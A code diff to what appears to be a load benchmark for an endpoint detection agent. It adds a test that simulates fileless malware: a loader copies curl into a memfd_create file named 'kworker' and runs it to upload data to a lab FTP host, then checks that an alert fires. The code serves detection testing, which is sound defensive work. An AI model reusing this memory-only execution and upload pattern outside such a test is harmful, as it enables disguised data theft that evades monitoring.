@@ -6,7 +6,8 @@ and backlog, and the agent's own state (agentctl status --json: flows open, aler
 child's execve, YARA scans queued so far, userspace drops). Halfway through, a
 scripted FTP upload (a shell script driving tnftp against the transfer lab's vsftpd at
 203.0.113.10) must be attributed to its process and alerted, its data connection part of its
-session. Then, with --burst, a load beyond
+session, and curl run from memfd_create must be attributed and raise
+transfer.no_file_executable. Then, with --burst, a load beyond
 capacity: the agent is stopped (SIGSTOP) for 2 s of a 4 s load under a small backlog (256), so
 the kernel's lost records must be counted and raised as agent.health, loadgen must not be held
 up (backlog_wait_time is 0), and the agent must still run. loadgen makes its children with vfork
@@ -15,7 +16,7 @@ here: with fork a 2-core machine does not reach 2,000 exec/s beside the watcher.
 Prints the samples and a verdict per target; exits 1 if one is missed:
   kernel lost 0 during the steady load; RSS after warm-up (the first fifth) grows by under 8 MB;
   the agent's userspace drops stay 0; the transfer is attributed and alerted, no alert on its
-  data connection alone; (--burst) lost
+  data connection alone; the memfd upload alerted as having no file; (--burst) lost
   records counted and reported, loadgen's rate not held up, the agent alive.
 
 Usage (as root): bench/load.py [SECONDS] [EXEC_RATE] [CONNECT_EVERY] [--burst] [--no-build]
@@ -70,6 +71,20 @@ def scripted_upload(work):
     return child.pid
 
 
+def fileless_upload(work):
+    """curl run from memfd_create (as fileless malware runs) uploading a file; returns its pid."""
+    data = os.path.join(work, "memfd.bin")
+    with open(data, "wb") as f:
+        f.write(os.urandom(200_000))
+    loader = os.path.join(work, "loader.py")
+    with open(loader, "w") as f:
+        f.write("import os, sys\nfd = os.memfd_create('kworker', 0)\nos.write(fd, open('/usr/bin/curl', 'rb').read())\n"
+                "os.execv(f'/proc/self/fd/{fd}', ['curl', '-s', '-T', sys.argv[1], 'ftp://203.0.113.10/upload/memfd.bin'])\n")
+    child = subprocess.Popen(["/usr/bin/python3", loader, data])
+    child.wait(60)
+    return child.pid
+
+
 def main():
     args = [a for a in sys.argv[1:] if not a.startswith("--")]
     burst = "--burst" in sys.argv
@@ -91,7 +106,7 @@ def main():
         load = subprocess.Popen([os.path.join(LIVE_OUT, "loadgen"), str(rate), str(seconds), str(every), "9", "vfork"],
                                 stdout=subprocess.PIPE, text=True)
         started = time.time()
-        samples, upload_pid = [], None
+        samples, upload_pid, fileless_pid = [], None, None
         print(f"{'t s':>5} {'RSS MB':>7} {'lost':>6} {'backlog':>8} {'flows':>6} {'held':>5} {'scans':>6} {'drops':>6}")
         while load.poll() is None:
             time.sleep(5 if seconds >= 30 else 2)
@@ -105,6 +120,7 @@ def main():
             print(f"{sample[0]:5.0f} {sample[1]:7.1f} {sample[2]:6d} {sample[3]:8d} {sample[4]:6d} {sample[5]:5d} {sample[6]:6d} {sample[7]:6d}", flush=True)
             if upload_pid is None and now >= seconds / 2:
                 upload_pid = scripted_upload(work)
+                fileless_pid = fileless_upload(work)
         achieved = load.stdout.read().strip()
         time.sleep(2)
         lost = int(audit_status()["lost"]) - lost_before
@@ -122,6 +138,11 @@ def main():
         # flow on a port that is not FTP's (the session closed before its connect was read).
         stray = sorted({a["rule"]["id"] for a in raised if a.get("destination", {}).get("port") not in (None, 21)})
         print(f"scripted upload (pid {upload_pid}): alerts {rules}" + ("" if raised else "  <- MISSED"))
+        # A binary with no file, attributed under the storm as at rest.
+        fileless = sorted({a["rule"]["id"] for a in alerts(directory) if a.get("process", {}).get("pid") == fileless_pid})
+        attributed = "transfer.no_file_executable" in fileless
+        print(f"memfd upload (pid {fileless_pid}): alerts {fileless}" + ("" if attributed else "  <- MISSED"))
+        misses += ["fileless"] * (not attributed)
         if stray:
             print(f"  its data connection alerted as a flow of its own: {stray}  <- MISSED")
         misses += ["lost"] * (lost != 0) + ["rss"] * (growth >= 8) + ["drops"] * (drops != 0) + ["transfer"] * (not raised)
